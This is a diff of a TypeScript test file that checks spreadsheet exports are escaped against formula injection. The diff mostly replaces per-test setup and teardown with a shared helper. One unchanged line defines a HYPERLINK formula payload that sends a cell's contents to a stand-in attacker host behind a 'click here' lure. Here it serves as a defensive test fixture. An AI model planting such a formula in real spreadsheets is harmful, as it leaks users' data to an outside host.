@@ -1,20 +1,13 @@
 // Exports neutralise formula injection (OWASP): a cell beginning with = + - @, a tab or a carriage
 // return is read as text by any spreadsheet.
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { fixtureOf } from '@bilan/fixtures';
-import { auth, buildTestApp, type TestApp } from '../../test/helpers';
-import { enableLogin, login, submittedForm } from '../../test/accounts';
+import { auth } from '../../test/helpers';
+import { eachAppWithPharmacyLogin, login, submittedForm } from '../../test/accounts';
 import { spreadsheetCell } from './spreadsheetCell';
 
-let t: TestApp;
-beforeEach(async () => {
-  t = await buildTestApp();
-  await enableLogin(t.app, t.pharmacy.id);
-});
-afterEach(async () => {
-  await t.close();
-});
+const t = eachAppWithPharmacyLogin();
 
 const HYPERLINK = '=HYPERLINK("http://attaquant.test/?d="&A1,"Cliquez ici")';
 
